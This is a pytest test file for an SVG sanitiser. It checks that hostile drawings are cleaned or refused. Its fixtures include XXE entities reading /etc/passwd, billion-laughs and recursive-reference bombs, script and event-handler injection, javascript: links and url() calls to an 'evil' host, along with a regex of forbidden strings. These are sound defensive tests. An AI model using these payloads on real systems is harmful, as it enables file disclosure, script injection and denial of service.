"""Drawings (SVG): only allowed names come through, attacks end in a clean copy or a refusal."""

import re
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from PIL import Image

from participation.media.press import Cover, Pressed, Unusable
from participation.media.press.bare import foreign
from participation.media.press.sanitising import sanitise
from participation.media.press.svgstyles import declarations, rules
from participation.media.press.svgwords import ATTRIBUTES, ELEMENTS, MOST_DEPTH, MOST_NODES, SVG
from tests.media.press.makers import SECRET, SQUARE, svg

Send = Callable[..., Pressed]
FORBIDDEN = re.compile(
    r"script|alert|onload|onclick|javascript|http://(?!www\.w3\.org/2000/svg)|https:|file:|data:|"
    r"<image|<style|style=|filter|animate|foreignObject|<!|<\?|passwd|metadata|" + SECRET
)

REFUSED = {
    "entity from a file": (
        svg("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "unsafe_drawing",
    ),
    "billion laughs": (
        svg("<text>&b;</text>", before='<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'),
        "unsafe_drawing",
    ),
    "foreign doctype": (
        b'<!DOCTYPE svg SYSTEM "http://evil/x.dtd" [ ]>' + svg(SQUARE),
        "unsafe_drawing",
    ),
    "undeclared entity": (svg(SQUARE + "<text>&nbsp;</text>"), "unreadable"),
    "picture by path": (svg(SQUARE + '<image href="/etc/hostname.png"/>'), "picture_inside"),
    "picture in data": (
        svg(SQUARE + '<image xlink:href="data:image/png;base64,AA"/>'),
        "picture_inside",
    ),
    "page inside": (
        svg(
            SQUARE + "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>"
        ),
        "unsafe_drawing",
    ),
    "nothing to see": (svg("<defs/>"), "unsafe_drawing"),
    "only a script": (svg("<script>alert(1)</script>"), "unsafe_drawing"),
    "use of itself": (svg('<g id="a"><use href="#a"/></g>'), "unsafe_drawing"),
    "use in a circle": (
        svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
        "unsafe_drawing",
    ),
    "pattern of itself": (
        svg('<pattern id="a"><rect width="9" height="9" fill="url(#a)"/></pattern>' + SQUARE),
        "unsafe_drawing",
    ),
    "too deep": (svg("<g>" * (MOST_DEPTH + 2) + SQUARE + "</g>" * (MOST_DEPTH + 2)), "bomb"),
    "deeper than the parser": (svg("<g>" * 3000 + SQUARE + "</g>" * 3000), "unreadable"),
    "too many parts": (svg("<g/>" * (MOST_NODES + 1) + SQUARE), "bomb"),
    "a path without end": (svg(f'<path d="M0 0{"l1 1" * 150_000}"/>'), "bomb"),
    "a value without end": (svg(f'<rect fill="{"a" * 9_000}"/>'), "bomb"),
    "no markup": (b"<svg <<<", "unreadable"),
    "cut off": (svg(SQUARE)[:-8], "unreadable"),
    "not UTF-8": (svg("<text>\xff</text>").replace("ÿ".encode(), b"\xff"), "unreadable"),
    "a line": (svg(SQUARE, size='width="1" height="400"'), "unreadable"),
    "another root": (b'<svg:g xmlns:svg="http://www.w3.org/2000/svg"/>', "wrong_kind"),
    "svg of another namespace": (b'<svg xmlns="urn:x"><rect/></svg>', "wrong_kind"),
}


def doublings(link: str, times: int = 25) -> str:
    """Ten lines that say thirty million things."""
    lines = [f'<g id="a0">{SQUARE}</g>']
    for turn in range(times):
        lines.append(f'<g id="a{turn + 1}">{link.format(turn) * 2}</g>')
    return "<defs>" + "".join(lines) + f'</defs><use href="#a{times}"/>'


CLEANED = {
    "handlers": '<g onload="alert(1)" onclick="alert(1)" ONCLICK="alert(1)">' + SQUARE + "</g>",
    "script": SQUARE + "<script>alert(1)</script><script href='http://evil/x.js'/>",
    "script of another namespace": SQUARE
    + "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "link": '<a href="javascript:alert(1)" xlink:href="javascript:alert(1)">' + SQUARE + "</a>",
    "far use": SQUARE + '<use href="http://evil/x.svg#a"/><use xlink:href="data:x#a"/>',
    "far paint": '<rect fill="url(http://evil/#a)" stroke="url(file:///etc/passwd)"/>' + SQUARE,
    "far style": '<rect style="fill:url(http://evil/#a);behavior:url(x)"/>' + SQUARE,
    "escaped style": '<rect style="fill:u\\72l(http://evil)"/>' + SQUARE,
    "style sheet": "<style>@import url(http://evil); .a{fill:url(http://evil/x)}</style>" + SQUARE,
    "animation": '<rect><animate attributeName="href" to="javascript:alert(1)"/></rect>' + SQUARE,
    "set": '<rect><set attributeName="onclick" to="alert(1)"/></rect>' + SQUARE,
    "filter": '<filter id="f"><feImage href="file:///etc/passwd"/></filter>'
    '<rect filter="url(#f)"/>' + SQUARE,
    "turbulence": '<filter id="f"><feTurbulence numOctaves="9999"/></filter>' + SQUARE,
    "comment": "<!-- <script>alert(1)</script> -->" + SQUARE,
    "instruction": "<?xml-stylesheet href='http://evil/x.css'?>" + SQUARE,
    "cdata": "<text><![CDATA[a]]></text>" + SQUARE,
    "titles": f"<title>{SECRET}</title><desc>{SECRET}</desc><metadata>{SECRET}</metadata>" + SQUARE,
    "names": f'<rect id="{SECRET}" class="{SECRET}" data-x="{SECRET}" aria-label="{SECRET}"/>',
    "programs": f'<g xmlns:i="urn:i" i:label="{SECRET}"><i:path>{SECRET}</i:path>{SQUARE}</g>',
    "base": '<g xml:base="http://evil/">' + SQUARE + "</g>",
    "marker": '<marker id="m"/><path d="M0 0h9" marker-end="url(#m)"/>',
    "use of nothing": '<g id="a"><use href="#nobody"/></g><use href="#a"/>' + SQUARE,
    "fonts": "<style>@font-face{font-family:x;src:url(http://evil/f)}</style>"
    '<text font-family="x, &quot;KaiTi&quot;">a<title>alert</title>b<tspan>c</tspan>d</text>',
}


class TestAttacks:
    @pytest.mark.parametrize("name", CLEANED)
    def test_it_ends_in_a_clean_copy(self, name: str, tmp_path: Path) -> None:
        found = sanitise(svg(CLEANED[name]))
        assert not FORBIDDEN.search(found.decode()), found
        path = tmp_path / "a"
        path.write_bytes(found)
        assert foreign(path, "image/svg+xml") == 0
        assert sanitise(found) == found

    @pytest.mark.parametrize("name", REFUSED)
    def test_it_is_refused(self, name: str) -> None:
        raw, code = REFUSED[name]
        with pytest.raises(Unusable) as caught:
            sanitise(raw)
        assert caught.value.code == code

    @pytest.mark.parametrize(
        "inside",
        [
            doublings('<use href="#a{}"/>'),
            doublings('<rect width="9" height="9" clip-path="url(#a{})"/>'),
            doublings('<rect width="9" height="9" mask="url(#a{})"/>'),
            doublings('<rect width="9" height="9" fill="url(#a{})"/>'),
            doublings('<g style="fill:url(#a{})"><rect/></g>'),
        ],
    )
    def test_what_doubles_is_counted_out(self, inside: str) -> None:
        with pytest.raises(Unusable) as caught:
            sanitise(svg(inside))
        assert caught.value.code == "bomb"

    @pytest.mark.parametrize("name", ["script", "names", "fonts", "use of nothing"])
    def test_through_the_press(self, send: Send, name: str) -> None:
        found = send(svg(CLEANED[name]))
        drawn = {made.name: made for made in found.made}
        assert set(drawn) == {"small", "medium", "large", "print", "svg"}
        assert not FORBIDDEN.search(drawn["svg"].path.read_text())

    def test_refused_through_the_press(self, refused: Callable[..., str]) -> None:
        for raw, code in list(REFUSED.values())[:6]:
            assert refused(raw) == code


class TestDrawn:
    def test_colours_come_through(self, send: Send) -> None:
        sheet = "<style>/* x */ .cls-1, .b{fill:#00ff00} rect{stroke:none}</style>"
        found = send(svg(sheet + '<rect class="cls-1" width="5" height="10"/>'))
        with Image.open(next(m.path for m in found.made if m.name == "print")) as image:
            assert image.size == (3000, 3000) and image.format == "PNG"
            assert image.convert("RGB").getpixel((700, 700)) == (0, 255, 0)
            assert image.convert("RGB").getpixel((2400, 700)) == (255, 255, 255)

    @pytest.mark.parametrize("family", ["", "KaiTi", "serif", "monospace"])
    def test_words_are_seen(self, send: Send, family: str) -> None:
        found = send(svg(f'<text y="8" font-size="8" font-family="{family}">河</text>'))
        with Image.open(next(m.path for m in found.made if m.name == "small")) as image:
            assert image.convert("L").getextrema()[0] < 60

    def test_a_doctype_of_the_standard_is_put_off(self) -> None:
        head = '<?xml version="1.0"?>\n<!-- x --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        head += '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        assert sanitise(svg(SQUARE, before=head)) == sanitise(svg(SQUARE))

    def test_wide_letters(self) -> None:
        assert sanitise(svg(SQUARE).decode().encode("utf-16")) == sanitise(svg(SQUARE))

    def test_references_hold_under_new_names(self) -> None:
        inside = (
            f'<linearGradient id="{SECRET}"><stop offset="1" stop-color="red"/></linearGradient>'
            f'<rect id="unused" fill="url(#{SECRET})"/><g id="两"><path d="M0 0h9"/></g>'
            '<use xlink:href="#两"/>'
        )
        found = sanitise(svg(inside)).decode()
        assert 'id="i1"' in found and 'fill="url(#i1)"' in found
        assert 'id="i2"' in found and 'href="#i2"' in found and found.count("id=") == 2

    @pytest.mark.parametrize(
        ("size", "said"),
        [
            ('width="210mm" height="297mm"', ("793.701", "1122.52", "0 0 793.701 1122.52")),
            ('viewBox="0 0 30 20"', ("30", "20", "0 0 30 20")),
            ('viewBox="1 2 x 4" width="100%"', ("300", "150", "0 0 300 150")),
            ('width="1.2.3" height="0"', ("300", "150", "0 0 300 150")),
            ('width="60px" height="40" viewBox="0 0 6 4"', ("60", "40", "0 0 6 4")),
        ],
    )
    def test_the_size_is_said(self, size: str, said: tuple[str, ...]) -> None:
        root = etree.fromstring(sanitise(svg(SQUARE, size=size)))
        assert (root.get("width"), root.get("height"), root.get("viewBox")) == said

    def test_words_around_what_goes_stay(self) -> None:
        inside = (
            "<text xml:space='preserve'>a <x/>b<tspan>c</tspan> d<rect/> e<use href='#x'/></text>"
        )
        found = etree.fromstring(sanitise(svg(inside)))[0]
        assert "".join(found.itertext()) == "a bc d e" and [one.text for one in found] == ["c"]
        assert found.get("{http://www.w3.org/XML/1998/namespace}space") == "preserve"

    def test_too_many_bytes(self) -> None:
        with pytest.raises(Unusable, match="too_big"):
            sanitise(svg(SQUARE).ljust(2_000_001))

    def test_with_a_cover_the_lines_are_not_given_out(self, send: Send) -> None:
        found = send(svg(SQUARE), (Cover(0, 0, 500, 500),))
        assert {made.name for made in found.made} == {"small", "medium", "large", "print"}


class TestStyles:
    def test_declarations(self) -> None:
        text = "fill : RED !important; stroke:expression(x); Font-Size:12px; x:1; opacity"
        assert declarations(text) == {"fill": "RED", "font-size": "12px"}

    def test_rules(self) -> None:
        found = rules(["@media x{.a{fill:red}} .a, g > b, #c{fill:blue} .a{opacity:.5}"])
        assert found[".a"] == {"fill": "blue", "opacity": ".5"} and set(found) == {".a", "#c"}

    def test_a_sheet_without_end(self) -> None:
        with pytest.raises(Unusable):
            rules(["/*" * 60_000])
        assert len(rules(["".join(f".a{place}{{fill:red}}" for place in range(900))])) == 400


NAMES = st.sampled_from(
    [*sorted(ELEMENTS), "script", "style", "image", "filter", "animate", "a", "title", "x"]
)
KEYS = st.sampled_from([*sorted(ATTRIBUTES), "id", "style", "class", "onload", "xlink:href", "x-y"])
VALUES = st.one_of(
    st.sampled_from(
        ["#a", "#b", "url(#a)", "url(#b)", "a", "b", "1", "red", "url(x)", "fill:url(#a)"]
    ),
    st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), max_size=12),
)
TEXT = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), max_size=8)


@st.composite
def trees(draw: st.DrawFn) -> bytes:
    """Any tree of allowed and other elements with any attributes."""
    root = etree.Element(
        f"{{{SVG}}}svg", nsmap={None: SVG, "xlink": "http://www.w3.org/1999/xlink"}
    )
    places = [root]
    for _part in range(draw(st.integers(1, 14))):
        parent = draw(st.sampled_from(places))
        element = etree.SubElement(parent, f"{{{SVG}}}{draw(NAMES)}")
        for key in draw(st.lists(KEYS, max_size=4, unique=True)):
            name = f"{{http://www.w3.org/1999/xlink}}{key[6:]}" if key[:6] == "xlink:" else key
            element.set(name, draw(VALUES))
        element.text, element.tail = draw(TEXT), draw(TEXT)
        places.append(element)
    return etree.tostring(root)


@settings(max_examples=150, deadline=None)
@given(trees())
def test_whatever_comes_out_is_allowed_and_stays_the_same(raw: bytes) -> None:
    try:
        found = sanitise(raw)
    except Unusable:
        return
    root = etree.fromstring(found)
    for element in root.iter():
        assert str(element.tag).removeprefix(f"{{{SVG}}}") in ELEMENTS
        for key, value in element.attrib.items():
            assert key in ATTRIBUTES or (key == "id" and re.fullmatch(r"i\d+", value))
            assert key != "href" or re.fullmatch(r"#i\d+", value)
            assert "url(" not in value or re.search(r"url\(#i\d+\)", value)
    assert sanitise(found) == found


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300), st.integers(0, 400))
def test_broken_bytes_are_only_refused(noise: bytes, place: int) -> None:
    whole = svg(CLEANED["fonts"])
    with suppress(Unusable):
        etree.fromstring(sanitise(whole[:place] + noise + whole[place:]))
